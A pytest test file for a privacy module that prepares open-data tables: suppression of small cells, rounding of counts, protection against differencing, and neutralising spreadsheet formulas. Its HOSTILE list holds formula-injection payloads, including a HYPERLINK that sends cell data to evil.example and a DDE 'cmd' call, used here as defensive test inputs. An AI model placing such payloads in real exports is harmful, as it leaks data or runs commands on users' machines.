"""Hand-computed fixtures and hostile strings for :mod:`eco_eval.privacy.open_data`."""

from __future__ import annotations

import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from eco_eval.errors import ConfigError
from eco_eval.privacy.open_data import (
    neutralise_formula,
    neutralise_formulas,
    prepare_open_data,
    round_counts,
)
from eco_eval.privacy.suppression import check_differencing, suppress_small_cells

from ._frames import LAUNCH, hidden, tidy


def test_cells_under_10_are_suppressed_then_counts_rounded_to_5():
    # dept A 7 < 10: primary; B 12 is the next smallest: complementary (mass 19 >= 10).
    # Rounding comes after: total 63 -> 65, C 44 -> 45; hidden cells stay blank.
    frame = tidy([("*", "*", 63), ("dept", "A", 7), ("dept", "B", 12), ("dept", "C", 44)])
    res = prepare_open_data(frame)
    assert hidden(res.frame) == {("dept", "A"), ("dept", "B")}
    assert res.frame["n"].tolist()[0] == 65.0
    assert res.frame["n"].tolist()[3] == 45.0
    assert res.frame.loc[res.frame["suppressed"], "n"].isna().all()
    # under the report's rule (k = 5) nothing is hidden: A has 7 people
    assert hidden(suppress_small_cells(frame).frame) == set()


def test_rounding_does_not_decide_suppression():
    # B = 12 rounds to 10 but 8 rounds to 10 too: suppression looks at the true 8.
    frame = tidy([("*", "*", 60), ("dept", "A", 8), ("dept", "B", 12), ("dept", "C", 40)])
    assert ("dept", "A") in hidden(prepare_open_data(frame).frame)


def test_counts_in_value_are_rounded_rates_are_not():
    counts = tidy(
        [("*", "*", 100, 61), ("dept", "A", 40, 23), ("dept", "B", 60, 38)],
        indicator="participants",
    )  # fmt: skip
    out = prepare_open_data(counts, numerators={"participants": "count"}).frame
    assert out["value"].tolist() == [60.0, 25.0, 40.0]
    assert out["n"].tolist() == [100.0, 40.0, 60.0]
    rates = counts.assign(value=counts["value"] / counts["n"], indicator="reach_rate")
    out = prepare_open_data(rates, numerators={"reach_rate": "share"}).frame
    assert out["value"].tolist() == pytest.approx([0.61, 23 / 40, 38 / 60])


def test_open_data_k_is_never_below_10():
    frame = tidy([("*", "*", 40)])
    with pytest.raises(ConfigError, match="below 10"):
        prepare_open_data(frame, k=5)
    with pytest.raises(ConfigError, match="round_to"):
        prepare_open_data(frame, round_to=0)
    assert prepare_open_data(frame, k=11).frame["n"].tolist() == [40.0]


def test_open_data_keeps_earlier_suppressions_and_cumulative_protection():
    q1 = tidy([("*", "*", 40), ("gender", "F", 20), ("gender", "M", 20)], period="cumul:2016-Q1")
    first = prepare_open_data(q1)
    q2 = tidy([("*", "*", 47), ("gender", "F", 27), ("gender", "M", 20)], period="cumul:2016-Q2")
    second = prepare_open_data(
        q2, previous_cumulative=[first.frame], suppression_log=first.log, launch=LAUNCH
    )
    # 7 newcomers, all women: fewer than 10, so the total and F are hidden, then M with F
    assert second.frame["suppressed"].all()
    assert check_differencing([first.frame, second.frame], k=10, launch=LAUNCH).empty


def test_round_counts():
    assert round_counts(np.array([0.0, 2.0, 2.5, 7.4, 12.0, 13.0, np.nan])).tolist()[:6] == [
        0.0,
        0.0,
        5.0,
        5.0,
        10.0,
        15.0,
    ]
    assert round_counts(pd.Series([21.0]), base=10).tolist() == [20.0]


HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")',
    "=cmd|' /C calc'!A0",
    "+33 6 12 34 56 78",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_injection_is_neutralised(text):
    out = neutralise_formula(text)
    assert out == "'" + text


@pytest.mark.parametrize(
    "value", ["Très bien", "<script>alert(1)</script>", "", "1+1", "a=b", 3, 2.5, None, True]
)
def test_harmless_values_are_left_alone(value):
    assert neutralise_formula(value) is value


def test_whole_frames_are_neutralised():
    frame = pd.DataFrame(
        {
            "text": ["=1+1", "ok", None],
            "obj": pd.Series(["@x", 3, np.nan], dtype=object),
            "cat": pd.Categorical(["-a", "b", "-a"]),
            "num": [-1.0, 2.0, 3.0],
        }
    )
    out = neutralise_formulas(frame)
    assert out["text"].tolist()[:2] == ["'=1+1", "ok"]
    assert pd.isna(out["text"].iloc[2])
    assert out["obj"].tolist()[:2] == ["'@x", 3]
    assert out["cat"].tolist() == ["'-a", "b", "'-a"]
    assert out["num"].tolist() == [-1.0, 2.0, 3.0]
    assert frame["text"].iloc[0] == "=1+1"  # the input is not modified


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=40))
def test_no_neutralised_text_starts_a_formula(text):
    out = neutralise_formula(text)
    assert not out.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
    assert out in (text, "'" + text)
